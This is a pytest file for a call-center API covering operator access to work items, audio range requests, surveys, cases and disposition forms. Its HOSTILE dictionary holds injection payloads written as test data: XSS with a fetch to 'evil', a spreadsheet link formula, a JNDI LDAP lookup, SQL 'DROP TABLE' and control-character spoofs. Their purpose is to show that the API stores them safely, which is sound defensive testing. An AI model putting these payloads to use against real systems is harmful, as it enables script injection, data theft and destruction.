"""Work items over the API: who sees what, taking once, audio with ranges, surveys."""

from __future__ import annotations

import msgspec
import pytest

from ari_app.model.call import FinalState
from ari_app.model.facts import SurveyAnswered
from ari_app.model.ids import CallId, OperatorId, QueueId, WorkItemId
from ari_app.model.operator import Operator
from ari_app.model.work import WorkItem
from ari_app.ports import Stamped
from ari_app.storage.work import WorkStore
from tests.api.house import ACME, BETA, House

AT = 1_700_000_000.0


async def given_item(house: House, ident: str, queue: str = "support", client: str = ACME) -> bytes:
    store = WorkStore(house.database)
    item = WorkItem(
        WorkItemId(ident),
        "voicemail",
        QueueId(queue),
        CallId("c1"),
        "+5511",
        "5000",
        AT,
        client=client,  # type: ignore[arg-type]
    )
    await store.add_item(item)
    await store.add_item(msgspec.structs.replace(item, queue=QueueId("never")))
    audio = b"RIFF" + bytes(range(256)) * 4
    (house.folder / f"{ident}.wav").write_bytes(audio)
    await store.audio_stored(item.id, f"{ident}.wav", 2.5, "cd" * 32)
    return audio


async def given_operator(house: House, extension: str, *queues: str) -> str:
    owned = tuple(QueueId(queue) for queue in queues) or None
    await house.desk.create(Operator(OperatorId(extension), "x", {}, owned, client=ACME), by="test")
    return await house.token("operator", ACME, extension)


async def test_C14_items_are_listed_for_those_who_serve_their_queue(house: House) -> None:
    await given_item(house, "w1", "support")
    await given_item(house, "w2", "sales")
    mine = await given_operator(house, "1001", "sales")
    everything = await given_operator(house, "1002")
    stranger = await house.token("supervisor", BETA)
    for token, expected in ((mine, ["w2"]), (everything, ["w2", "w1"]), (stranger, [])):
        answer = await house.ask("GET", "/work-items", token)
        assert [item["id"] for item in answer.json["items"]] == expected
    assert (await house.ask("GET", "/work-items/w1", mine)).status == 404
    assert (await house.ask("GET", "/work-items/w1/audio", stranger)).status == 404


async def test_C14_a_message_is_taken_by_one_operator(house: House) -> None:
    await given_item(house, "w1")
    first, second = await given_operator(house, "1001"), await given_operator(house, "1002")
    taken = await house.ask("PATCH", "/work-items/w1", first, json={"state": "taken"})
    assert (taken.status, taken.json["owner"]) == (200, "1001")
    assert (await house.ask("PATCH", "/work-items/w1", second, json={"state": "taken"})).status == 409
    other = {"state": "taken", "owner": "1002"}
    assert (await house.ask("PATCH", "/work-items/w1", first, json=other)).status == 403
    leader = await house.token("supervisor", ACME)
    assert (await house.ask("PATCH", "/work-items/w1", leader, json=other)).json["owner"] == "1002"
    done = await house.ask("PATCH", "/work-items/w1", second, json={"state": "done", "note": "ok"})
    assert (done.json["state"], done.json["note"], done.json["owner"]) == ("done", "ok", "1002")


async def test_C14_audio_is_served_in_ranges_and_audited(house: House) -> None:
    audio = await given_item(house, "w1")
    token = await house.token("supervisor")
    whole = await house.ask("GET", "/work-items/w1/audio", token)
    assert (whole.status, whole.body) == (200, audio)
    part = await house.ask("GET", "/work-items/w1/audio", token, headers={"Range": "bytes=4-7"})
    assert (part.status, part.body) == (206, audio[4:8])
    acts = [(row.entry.action, row.entry.target) for row in await house.audit.entries()]
    assert acts.count(("get_work-items_audio", "w1")) == 2


async def test_C15_survey_answers_are_stored_with_the_call(house: House) -> None:
    await house.given_call("c1", operator="1001", final_state=FinalState.ANSWERED)
    facts = [SurveyAnswered("csat", "5"), SurveyAnswered("solved", "1")]
    house.journal.put_facts([Stamped(AT, fact, CallId("c1"), ACME) for fact in facts])
    assert await house.journal.flush()
    answer = await house.ask("GET", "/calls/c1/survey", await house.token("supervisor"))
    assert [(a["question"], a["answer"]) for a in answer.json["answers"]] == [("csat", "5"), ("solved", "1")]
    assert answer.json["comments"] == []
    assert (await house.ask("GET", "/calls/c1/survey", await house.token("supervisor", BETA))).status == 404


async def test_C17_case_is_opened_found_by_protocol_and_by_the_customers_number(house: House) -> None:
    token = await house.token("supervisor", ACME)
    await house.given_call("c1", queue="support")
    opened = await house.ask(
        "POST", "/cases", token, json={"kind": "complaint", "call_id": "c1", "note": "x"}
    )
    assert (opened.status, opened.json["from"], opened.json["queue"]) == (201, "+5511988887777", "support")
    assert await house.journal.flush()
    url = f"/cases/{opened.json['protocol']}"
    assert (await house.ask("GET", url, token)).json == opened.json
    history = await house.ask("GET", "/cases?from=%2B5511988887777", token)
    assert [case["protocol"] for case in history.json["items"]] == [opened.json["protocol"]]
    assert (await house.ask("GET", url, await house.token("admin", BETA))).status == 404
    assert (await house.ask("POST", "/cases", token, json={"kind": "order"})).status == 422


async def test_P11_case_has_state_owner_and_deadline(house: House) -> None:
    token = await house.token("supervisor", ACME)
    opened = await house.ask("POST", "/cases", token, json={"kind": "complaint", "from": "5511"})
    assert await house.journal.flush()
    url = f"/cases/{opened.json['protocol']}"
    house.clock.advance(9 * 86400)
    late = await house.ask("GET", url, token)
    assert (late.json["state"], late.json["overdue"]) == ("open", True)
    found = await house.ask("GET", "/cases?due_before=2100-01-01T00:00:00Z", token)
    assert [case["protocol"] for case in found.json["items"]] == [opened.json["protocol"]]
    closed = await house.ask("PATCH", url, token, json={"state": "closed", "owner": "1001"})
    assert (closed.json["state"], closed.json["owner"], closed.json["overdue"]) == ("closed", "1001", False)


async def test_P5_disposition_is_checked_stored_once_and_opens_its_case(house: House) -> None:
    await house.given_call("c1", operator="1001", queue="support")
    token = await given_operator(house, "1001")
    forms = await house.ask("GET", "/forms", token)
    assert (forms.json["items"][0]["id"], forms.json["items"][0]["required_by"]) == ("visit", ["support"])
    url = "/calls/c1/disposition"
    assert (await house.ask("GET", url, token)).status == 404
    for wrong, path in (
        ({}, "fault"),
        ({"fault": "x", "kind": "car"}, "kind"),
        ({"fault": "x", "no": 1}, "no"),
    ):
        refused = await house.ask("POST", url, token, json={"answers": wrong})
        assert refused.status == 422
        assert [error["path"] for error in refused.json["errors"]] == [f"$.answers.{path}"]
    written = await house.ask("POST", url, token, json={"answers": {"fault": "noise", "kind": "line"}})
    assert (written.status, written.json["operator"], written.json["form"]) == (201, "1001", "visit")
    assert (await house.ask("POST", url, token, json={"answers": {"fault": "again"}})).status == 409
    assert (await house.ask("GET", url, token)).json == written.json
    assert await house.journal.flush()
    case = await house.ask("GET", f"/cases/{written.json['protocol']}", token)
    assert (case.json["kind"], case.json["form"]) == ("support", {"fault": "noise", "kind": "line"})
    other = await given_operator(house, "1002")
    assert (await house.ask("POST", url, other, json={"answers": {"fault": "x"}})).status == 404


HOSTILE = {
    "html": "<img src=x onerror=alert(1)><script>fetch('//evil')</script>",
    "formula": '=HYPERLINK("http://evil","paid")',
    "control": "ab\x1b[2J\x07\r\n\x85\u2028end",
    "rtl": "\u202egnp.exe\u202c \u0627\u0644\u0633\u0644\u0627\u0645 \u200f1,000",
    "template": "{{7*7}} ${jndi:ldap://evil} %s %n '; DROP TABLE calls; --",
    "astral": "\U0001f4a9" * 500,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
async def test_P5_hostile_text_in_a_form_is_stored_and_told_as_it_was_typed(house: House, text: str) -> None:
    await house.given_call("c1", operator="1001", queue="support")
    token = await given_operator(house, "1001")
    url = "/calls/c1/disposition"
    written = await house.ask("POST", url, token, json={"answers": {"fault": text}})
    assert written.status == 201
    assert written.json["answers"] == {"fault": text}
    assert (await house.ask("GET", url, token)).json["answers"] == {"fault": text}
    assert await house.journal.flush()
    case = await house.ask("GET", f"/cases/{written.json['protocol']}", token)
    assert case.json["form"] == {"fault": text}
    assert case.headers["Content-Type"].startswith("application/json"), "no browser takes it for a page"
    assert case.headers["X-Content-Type-Options"] == "nosniff"


async def test_P5_a_form_of_a_megabyte_or_of_nonsense_is_refused_and_nothing_is_kept(house: House) -> None:
    await house.given_call("c1", operator="1001", queue="support")
    token = await given_operator(house, "1001")
    url = "/calls/c1/disposition"
    for answers in (
        {"fault": "x" * 1_000_000},
        {"fault": "x" * 2001},
        {"fault": ["a", "list"]},
        {"fault": {"a": "tree"}},
        {"fault": 7},
        {f"field{number}": "x" for number in range(101)},
        {"<script>": "x"},
        {"fault": "a NUL\x00"},
    ):
        refused = await house.ask("POST", url, token, json={"answers": answers})
        assert refused.status in {400, 413, 422}, str(answers)[:60]
        assert "Traceback" not in refused.body.decode()
    for raw in (
        b'{"answers": {"fault": "\\ud800"}}',
        b'{"answers": {"fault": NaN}}',
        b"\xff\xfe",
        b"[" * 5000,
    ):
        headers = {"Content-Type": "application/json"}
        assert (await house.ask("POST", url, token, data=raw, headers=headers)).status in {400, 422}, raw[:40]
    assert (await house.ask("GET", url, token)).status == 404
